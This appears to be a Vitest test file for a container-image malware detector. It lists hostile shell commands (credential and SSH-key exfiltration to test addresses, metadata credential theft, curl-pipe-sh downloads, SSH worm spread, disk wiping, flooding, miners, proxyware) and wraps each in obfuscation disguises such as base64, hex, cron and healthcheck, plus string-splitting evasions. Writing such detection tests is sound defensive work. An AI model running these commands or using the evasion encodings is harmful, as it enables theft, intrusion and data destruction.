import { beforeAll, describe, expect, test } from 'vitest';
import { useGrammarFiles } from '../grammar-files.ts';
import { sceneOf } from '../testing/scene.ts';
import type { ExampleImage } from './detector.ts';

beforeAll(() => useGrammarFiles());

/** What is done, in plain shell, and the detector that must say so whatever the disguise. */
const payloads: readonly (readonly [detector: string, code: string])[] = [
  ['exfiltration', 'curl -s --data-binary @/root/.aws/credentials http://203.0.113.9/c'],
  ['exfiltration', 'tar czf /tmp/.a /root/.ssh; curl -sT /tmp/.a http://203.0.113.9/u'],
  ['exfiltration', 'cat /etc/shadow | nc 203.0.113.9 4444'],
  ['dns-exfiltration', 'dig $(base64 -w0 /etc/hostname).c.example'],
  [
    'metadata-credentials',
    'curl -d "$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r)" http://203.0.113.9/',
  ],
  ['tunnel', './kworker client 203.0.113.9:8080 R:socks'],
  ['onion-service', `curl -sx socks5h://127.0.0.1:9050 http://${'a'.repeat(56)}.onion/x -o /tmp/x`],
  ['dead-drop', 'curl -fsSL https://pastebin.com/raw/aaaaaaaa | sh'],
  ['throwaway-address', 'curl -s https://aaaa-1.ngrok.io/x.sh | sh'],
  [
    'remote-spread',
    'for h in $(cut -d" " -f1 /root/.ssh/known_hosts); do ssh root@$h "curl -s http://203.0.113.4/x | sh"; done',
  ],
  [
    'network-sweep',
    'masscan -p2375 198.51.100.0/24 -oG /tmp/o; while read ip; do docker -H $ip:2375 run -d alpine sh; done < /tmp/o',
  ],
  ['flooding', 'hping3 -S --flood -p 443 victim.example'],
  ['wiping', 'rm -rf --no-preserve-root /'],
  ['wiping', 'dd if=/dev/zero of=/dev/sda bs=1M'],
  ['proxyware', './upd -tou-accept -email a@box.example -pass x -device d'],
  ['proxyware', 'docker run -d --restart=always traffmonetizer/cli_v2 start accept --token abc'],
  ['miner', './sshd -o stratum+tcp://p.mine.example:3333 -u w -p x'],
  ['miner', './a -o gulf.moneroocean.stream:10128 -u w -p x'],
  ['miner-tuning', 'cpulimit -l 50 ./a -o stratum+tcp://p.mine.example:3333 -u w'],
  ['memory-dump', 'cat /proc/$(pgrep -f Runner.Worker)/mem | strings | grep -a isSecret > /tmp/o'],
  ['rival-killing', 'pkill -9 -f kdevtmpfsi; curl -s http://203.0.113.9/x | sh'],
  ['package-worm', 'npm whoami && npm publish --access public'],
];

const quoted = (code: string): string => `'${code.replaceAll("'", `'\\''`)}'`;
const hex = (code: string): string => Buffer.from(code).toString('hex');
const base64 = (code: string): string => Buffer.from(code).toString('base64');

const disguises: readonly (readonly [name: string, of: (code: string) => ExampleImage])[] = [
  ['plain', (code) => ({ cmd: ['sh', '-c', code] })],
  ['base64', (code) => ({ cmd: ['sh', '-c', `echo ${base64(code)} | base64 -d | sh`] })],
  ['hex', (code) => ({ cmd: ['bash', '-c', `printf %s ${hex(code)} | xxd -r -p | bash`] })],
  ['reversed', (code) => ({ cmd: ['bash', '-c', `eval "$(echo ${quoted([...code].reverse().join(''))} | rev)"`] })],
  ['eval of a variable', (code) => ({ cmd: ['sh', '-c', `c=${quoted(code)}; eval "$c"`] })],
  ['a here-document', (code) => ({ cmd: ['sh', '-c', `sh <<'EOF'\n${code}\nEOF`] })],
  ['a function', (code) => ({ cmd: ['sh', '-c', `run() {\n${code}\n}\nrun`] })],
  [
    'a script',
    (code) => ({ entrypoint: ['/run.sh'], files: { '/run.sh': { content: `#!/bin/sh\n${code}\n`, mode: 0o755 } } }),
  ],
  ['written, then run', (code) => ({ cmd: ['sh', '-c', `echo ${quoted(code)} > /tmp/s; sh /tmp/s`] })],
  ['Python', (code) => ({ cmd: ['python3', '-c', `import os\nos.system(${JSON.stringify(code)})`] })],
  ['a cron table', (code) => ({ files: { '/etc/cron.d/x': `* * * * * root ${code}\n` } })],
  ['a health check', (code) => ({ cmd: ['app'], healthcheck: ['CMD-SHELL', code] })],
  [
    'twice base64',
    (code) => ({ cmd: ['sh', '-c', `echo ${base64(`echo ${base64(code)} | base64 -d | sh`)} | base64 -d | sh`] }),
  ],
];

describe.each(disguises)('disguised as %s', (_name, disguised) => {
  test.each(payloads)('%s: %s', async (detector, code) => {
    const { findings } = await sceneOf(disguised(code));
    const own = findings.filter((finding) => finding.detector === detector);
    expect(own[0]?.severity).toBe('malicious');
  });
});

/** Words taken apart inside: the same behaviour in the spellings that a search for strings misses. */
test.each([
  ['exfiltration', 'c=cu; r=rl; f=/root/.aws; $c$r -s -d @$f/credentials http://203.0.113.9/'],
  ['exfiltration', 'cat /etc/sha""dow > /tmp/a; mv /tmp/a /tmp/b; cu\\rl -T /tmp/b http://203.0.113.9/'],
  ['exfiltration', 'IFS=,; set -- curl,-sT,/root/.ssh/id_rsa,http://203.0.113.9/; $*'],
  ['proxyware', 'a=-tou; ./x $a-accept -em""ail a@box.example -pass x -device d'],
  ['tunnel', 'r=R:socks; ./x client 203.0.113.9:80 $r'],
  ['wiping', 'd=/; rm -rf $d*'],
  ['wiping', 'x=/dev/sd; dd if=/dev/urandom of=${x}a'],
  ['dead-drop', 'h=pastebin; curl -s "https://$h.com/raw/aaaaaaaa" | sh'],
  ['metadata-credentials', 'curl -s http://0xa9fea9fe/latest/meta-data/iam/security-credentials/x -o /tmp/x'],
  ['metadata-credentials', 'curl -s http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/x -o /tmp/x'],
  ['flooding', '$(echo hping3) --flood victim.example'],
  ['miner', 'p=stratum; ./x -o $p+tcp://p.mine.example:3333 -u w'],
])('taken apart: %s: %s', async (detector, code) => {
  const { findings } = await sceneOf({ cmd: ['bash', '-c', code] });
  expect(findings.filter((finding) => finding.detector === detector)[0]?.severity).toBe('malicious');
});
